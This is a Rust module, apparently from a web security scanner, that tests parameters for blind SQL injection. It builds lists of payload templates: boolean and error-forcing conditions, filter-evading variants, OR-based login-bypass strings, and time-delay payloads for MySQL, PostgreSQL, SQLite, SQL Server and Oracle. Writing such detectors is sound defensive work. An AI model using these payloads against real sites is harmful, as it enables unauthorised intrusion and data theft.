//! SQL by its effect alone: conditions, and waiting.

use crate::checks::injection::choice::{CONDITIONS, Choice};
use crate::checks::injection::code;
use crate::checks::injection::facts::Facts;
use crate::checks::{Bench, Entry};
use crate::http::Method;
use crate::point::{Place, Point};
use crate::proof::Proof;

/// Conditions without the signs that filters for markup and for comparisons take away.
const AMONG: ([&str; 2], [&str; 2]) = (["(37)IN(37)", "NOT(37)IN(73)"], ["(37)IN(73)", "NOT(37)IN(37)"]);

/// Conditions that are none in other languages, in which one such sign sets a variable.
const EQUAL: ([&str; 2], [&str; 2]) = (["37=37", "73=73"], ["37=73", "73=37"]);

/// Whether what is put in is an expression of PHP, JavaScript or Python as well.
fn is_expression_elsewhere(template: &str) -> bool {
    template.contains('^')
        || template.strip_prefix("{v}").is_some_and(|rest| {
            rest.chars().all(|sign| sign.is_ascii_uppercase() || " )(/*{c}".contains(sign))
        })
}

/// What fails in SQLite, PostgreSQL and MySQL, where the number is too great, and by the division in the others; only where it is
/// asked for.
macro_rules! failure {
    () => {
        "abs(-9223372036854775807-1)/0"
    };
}

/// Where a value may stand, as what is put in for a condition `{c}`; `{v}` is the usual value.
fn places(point: &Point) -> Vec<String> {
    if point.is_name() {
        return COLUMNS.iter().filter(|_| !point.value.is_empty()).map(|place| (*place).to_owned()).collect();
    }
    let value = point.value.trim();
    let is_number = value.parse::<f64>().is_ok();
    let is_name = !value.is_empty()
        && value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ','))
        && !value.starts_with(',');
    let name = point.name.to_ascii_lowercase();
    let sorts = is_direction(value)
        || ["sort", "order", "dir", "col", "by", "group", "field", "select"]
            .iter()
            .any(|word| name.contains(word));
    let numbers = [
        // Behind the value, for filters that look at its beginning; also where a number is all that may stand.
        concat!("{v}-(CASE WHEN {c} THEN 0 ELSE ", failure!(), " END)"),
        "{v} AND {c}",
        "{v}) AND ({c}",
        "{v}/**/AND/**/{c}",
        "{v}^({c})^1",
    ];
    let strings = [
        // Without blanks and comments; true leaves the value as it is.
        "{v}'||(SELECT''WHERE({c}))||'",
        "{v}' AND {c} AND '{w}' LIKE '{w}",
        "{v}%' AND {c} AND 'a' LIKE 'a",
        "{v}\" AND {c} AND \"a\" LIKE \"a",
        "{v}' AND {c}-- ",
        "{v}') AND {c}-- ",
        "{v}'AND({c})AND'a'LIKE'a",
        "{v}%27 AND {c} AND %27a%27 LIKE %27a",
        // Without words, blanks and comments, whatever brackets stand around it; true leaves the value as it is.
        "{v}'^({c})^'1",
        "{v}\"^({c})^\"1",
    ];
    let orders = [
        "(CASE WHEN {c} THEN {v} ELSE NULL END)",
        concat!("{v},(CASE WHEN {c} THEN 1 ELSE ", failure!(), " END)"),
        concat!("(CASE WHEN {c} THEN 1 ELSE ", failure!(), " END) {v}"),
        "{v},(SELECT(CASE WHEN {c} THEN 1 ELSE(SELECT 1 UNION SELECT 2)END))",
        concat!("{v}\",(CASE WHEN {c} THEN 1 ELSE ", failure!(), " END),\"{v}"),
        "{v}`*(CASE WHEN {c} THEN 1 ELSE NULL END)*`{v}",
        "{v}]*(CASE WHEN {c} THEN 1 ELSE NULL END)*[{v}",
    ];
    let mut list: Vec<&str> = Vec::new();
    if is_number {
        list.extend(numbers);
    } else if value.ends_with(|letter: char| letter.is_ascii_digit()) {
        // A number behind a word, or the last of several.
        list.extend(["{v} AND {c}", "{v}) AND ({c}"]);
    }
    if sorts && is_name {
        list.extend(orders);
    }
    list.extend(strings);
    if is_name && !sorts && !is_number {
        list.extend(orders.iter().take(1));
        list.extend(is_source(point).then_some("{v} WHERE {c}-- "));
    }
    let word = ending(value);
    let mut list: Vec<String> = list.into_iter().map(|place| place.replace("{w}", word)).collect();
    if let Some((stem, ending)) = value.rsplit_once('.')
        && !is_number
        && (2..=4).contains(&ending.len())
    {
        // What is asked for by its name without the ending, once that is there.
        list.push(format!("{stem}' AND {{c}} AND 'a' LIKE 'a.{ending}"));
    }
    list
}

/// What a value that is put in may end with: the value itself, since some filters look at its end, unless it has signs of its own.
fn ending(value: &str) -> &str {
    let is_plain = |letter: char| letter.is_alphanumeric() || " .@:-".contains(letter);
    if (1..=24).contains(&value.len()) && value.chars().all(is_plain) { value } else { "a" }
}

/// Whether a parameter may name the table that is asked.
fn is_source(point: &Point) -> bool {
    let name = point.name.to_ascii_lowercase();
    ["table", "tbl", "source", "entity", "model"].iter().any(|word| name.contains(word))
}

/// Where the value is a name to which another value is compared, without quotes and within those of each database.
const COLUMNS: [&str; 4] = [
    "{v}={v} AND {c} AND {v}",
    "{v}`=`{v}` AND {c} AND `{v}",
    "{v}\"=\"{v}\" AND {c} AND \"{v}",
    "{v}]=[{v}] AND {c} AND [{v}",
];

/// Conditions that add rows: for values that match none, as on a form for signing in.
const ADDING: &[&str] = &[
    "{v}zq' OR {c}-- ",
    "{v}zq' OR {c} OR 'a' LIKE 'b",
    "{v}zq') OR {c}-- ",
    "{v}zq\" OR {c}-- ",
    "0-1 OR {c}",
    "{v}zq%' OR {c} OR 'a' LIKE 'b",
    "{v}zq')) OR {c}-- ",
    "0-1) OR ({c}",
    "{v}'OR({c})--\t",
    "{v}zq\\' OR {c}-- ",
    "{v}zq' oR {c}#",
];

/// Conditions whose failure is an error that shows as one. The second is for MySQL, where a comparison by `LIKE` leaves texts as they
/// are, so that it fails in no statement that changes rows.
const FAILING: &[&str] = &[
    concat!("{v}'||(CASE WHEN {c} THEN 1 ELSE ", failure!(), " END)||'"),
    concat!("{v}' LIKE (CASE WHEN {c} THEN 1 ELSE ", failure!(), " END) LIKE '1"),
];

/// Most places that are tried in a part of a path.
const MOST_OF_ROUTE: usize = 4;

/// Proves a difference between conditions.
pub(super) async fn by_choice(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, known): (&Point, &Facts),
) -> Option<(String, Proof)> {
    let is_quiet = known.is_quiet();
    let narrowing: Vec<String> = if is_quiet { Vec::new() } else { places(point) };
    let adding = if changes(entry) { &[] } else { ADDING };
    // Where quotes that don't fit make no difference, an error shows as little.
    let failing = if known.breaks { FAILING } else { &[] };
    let others = adding.iter().chain(failing).copied();
    let list: Vec<&str> = narrowing.iter().map(String::as_str).chain(others).collect();
    for template in &list {
        // What fails on purpose may be answered like a plain word where it does not fail.
        let fails = ["abs(", "UNION SELECT"].iter().any(|word| template.contains(word));
        let beside = (!fails || known.matters).then_some(known);
        let Some(found) = choose(bench, entry, (point, beside), template, CONDITIONS).await else { continue };
        if !is_expression_elsewhere(template) {
            return Some(found);
        }
        let certain = choose(bench, entry, (point, beside), template, EQUAL).await;
        if certain.is_some() || !code::instead(bench, entry, (point, known)).await {
            return certain.or(Some(found));
        }
        return None;
    }
    if is_quiet {
        return None;
    }
    for template in list.iter().take(4) {
        if let Some(found) = choose(bench, entry, (point, Some(known)), template, AMONG).await {
            return Some(found);
        }
    }
    None
}

/// The same, in few requests, for the last part of a path where other words are answered as addresses that are not there.
pub(super) async fn behind_route(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, known): (&Point, &Facts),
) -> Option<(String, Proof)> {
    let Place::Path(at) = *point.place.outer() else { return None };
    if at + 2 != entry.request.url.path.split('/').count() {
        return None;
    }
    let is_likely = |place: &String| {
        ["{v}-(CASE", "{v} AND {c}", "{v}'||(SELECT"].iter().any(|begin| place.starts_with(begin))
            || place.contains("LIKE 'a.")
            || place.ends_with(&format!("LIKE '{}", ending(&point.value)))
    };
    for template in places(point).iter().filter(|place| is_likely(place)).take(MOST_OF_ROUTE) {
        if let Some(found) = choose(bench, entry, (point, Some(known)), template, AMONG).await {
            return Some(found);
        }
    }
    None
}

async fn choose(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, beside): (&Point, Option<&Facts>),
    template: &str,
    conditions: ([&str; 2], [&str; 2]),
) -> Option<(String, Proof)> {
    let choice = Choice::of(conditions, |condition| {
        let value = template.replace("{c}", condition).replace("{v}", &point.value);
        (entry.request.with(point, &value), value)
    });
    match beside {
        Some(known) => choice.prove_beside(bench, entry, (point, known)).await,
        None => choice.prove(bench, entry).await,
    }
}

/// Whether a request looks as if it changed rows: a condition that adds rows could then change all of them.
pub(super) fn changes(entry: &Entry) -> bool {
    let words =
        ["delete", "remove", "update", "edit", "save", "drop", "reset", "purge", "cancel", "change", "set"];
    let names = entry.request.points().into_iter().map(|point| point.name);
    let path = entry.request.url.path.to_ascii_lowercase();
    let text = names.fold(path, |text, name| format!("{text} {}", name.to_ascii_lowercase()));
    let mut parts = text.split(|letter: char| !letter.is_ascii_alphanumeric());
    entry.request.method != Method::Get && parts.any(|part| words.contains(&part))
}

/// What waits in MySQL, MariaDB, whatever stands around it; without blanks, which some filters take away.
macro_rules! mysql {
    () => {
        "(SELECT(zr)FROM(SELECT(SLEEP({t}))zr)zq)"
    };
}

/// What waits in PostgreSQL and gives an empty text.
macro_rules! postgres {
    () => {
        "(SELECT(pg_sleep({t})))::text"
    };
}

/// What works long in SQLite and gives an empty text.
macro_rules! sqlite {
    () => {
        "(WITH/**/RECURSIVE/**/zq(x)AS(SELECT/**/1/**/UNION/**/ALL/**/SELECT/**/x+1/**/FROM/**/zq/**/LIMIT/**/1+{t}*6000000)SELECT/**/substr('',count(*))FROM/**/zq)"
    };
}

/// What waits within a string, in each database's own way; `{t}` are seconds. SQL Server needs no semicolon between statements.
pub(super) const STRINGS: [&str; 8] = [
    concat!("{v}'||", postgres!(), "||'"),
    concat!("{v}'-", mysql!(), "-'"),
    "{v}';SELECT pg_sleep({t})-- ",
    "{v}' WAITFOR DELAY '0:0:{t}'-- ",
    concat!("{v}'||", sqlite!(), "||'"),
    // Where what follows the string asks for a type that no longer text has, as dates and lists do.
    "{v}' AND 1=(SELECT 1 FROM pg_sleep({t}))-- ",
    "{v}') WAITFOR DELAY '0:0:{t}'-- ",
    // Where a filter takes away the words of queries, or blanks.
    "{v}'/**/aNd/**/sLeEp({t})/**/aNd/**/'1'='1",
];

/// The same, one for each database.
pub(super) const LOGGED: [&str; 4] = [STRINGS[0], STRINGS[1], STRINGS[3], STRINGS[4]];

/// What waits in place of a number, or behind the last of several.
const NUMBERS: [&str; 9] = [
    "{v}-(SELECT(0)FROM(SELECT(pg_sleep({t})))zq)",
    concat!("{v}-", mysql!()),
    "{v};SELECT pg_sleep({t})-- ",
    "{v} WAITFOR DELAY '0:0:{t}'-- ",
    "{v}-(WITH/**/RECURSIVE/**/zq(x)AS(SELECT/**/1/**/UNION/**/ALL/**/SELECT/**/x+1/**/FROM/**/zq/**/LIMIT/**/1+{t}*6000000)SELECT/**/0*count(*)FROM/**/zq)",
    // Not well-formed in PHP, which has the same words.
    "{v}/**/aNd/**/sLeEp({t})/**/iS/**/nOt/**/nUlL",
    "{v}) WAITFOR DELAY '0:0:{t}'-- ",
    "{v});SELECT pg_sleep({t})-- ",
    "{v}-(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)",
];

/// What waits behind the name of a column, wherever that may stand: without quotes and within those of each database. What
/// stands in the comment of the second is for strings in double quotes.
const NAMES: [&str; 8] = [
    concat!("{v}||", postgres!()),
    concat!("{v}-", mysql!(), "/*\"-", mysql!(), "-\"*/"),
    concat!("{v}||", sqlite!()),
    concat!("{v}\"||", postgres!(), "||\"{v}"),
    concat!("{v}`-", mysql!(), "-`{v}"),
    concat!("{v}\"||", sqlite!(), "||\"{v}"),
    "{v} WAITFOR DELAY '0:0:{t}'-- ",
    "{v},(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)",
];

/// The same behind `ASC` and `DESC`.
const DIRECTIONS: [&str; 3] =
    [concat!("{v},", postgres!()), concat!("{v},", mysql!()), concat!("{v},", sqlite!())];

/// What waits beside the table that a value names.
const SOURCES: [&str; 3] = [
    "{v} CROSS JOIN pg_sleep({t})zq",
    "{v} CROSS JOIN (SELECT SLEEP({t}))zq",
    concat!("{v} CROSS JOIN (SELECT ", sqlite!(), ")zq"),
];

/// What waits, in each database's own way; `{t}` are seconds.
pub(super) fn waiting(point: &Point, known: &Facts) -> Vec<&'static str> {
    let is_number = is_number(&point.value);
    if point.place == Place::Header && !is_number {
        return STRINGS.to_vec();
    }
    // A date without quotes is a difference of numbers.
    let is_sum = point.value.starts_with(|first: char| first.is_ascii_digit())
        && point.value.chars().all(|letter| letter.is_ascii_digit() || "-/.:, ".contains(letter));
    let mut list: Vec<&str> = if is_number || is_sum { NUMBERS.to_vec() } else { Vec::new() };
    if known.matters {
        // Conditions have been tried: what is left is one way for each database.
        list.extend(LOGGED);
        return list;
    }
    list.extend(STRINGS);
    if known.echoes {
        return list;
    }
    list.push("{v}'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)||'");
    list.push("{v}');SELECT pg_sleep({t})-- ");
    if is_name(&point.value) && !is_number {
        list.extend(if is_direction(&point.value) { DIRECTIONS.as_slice() } else { NAMES.as_slice() });
        list.extend(is_source(point).then_some(SOURCES).into_iter().flatten());
        list.push("(SELECT 1 FROM (SELECT pg_sleep({t}))zq)");
    } else {
        list.push(concat!("{v}\"-", mysql!(), "-\""));
    }
    list
}

/// Whether a value is a number, or several with commas between them.
pub(super) fn is_number(value: &str) -> bool {
    value.split(',').all(|part| part.trim().parse::<f64>().is_ok())
}

/// Whether a value is the direction of an order.
fn is_direction(value: &str) -> bool {
    ["asc", "desc"].iter().any(|word| value.eq_ignore_ascii_case(word))
}

/// Whether a value could be the name of a column, or several.
fn is_name(value: &str) -> bool {
    let of_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ',' | ' ');
    value.starts_with(|c: char| c.is_ascii_alphabetic()) && value.chars().all(of_name)
}
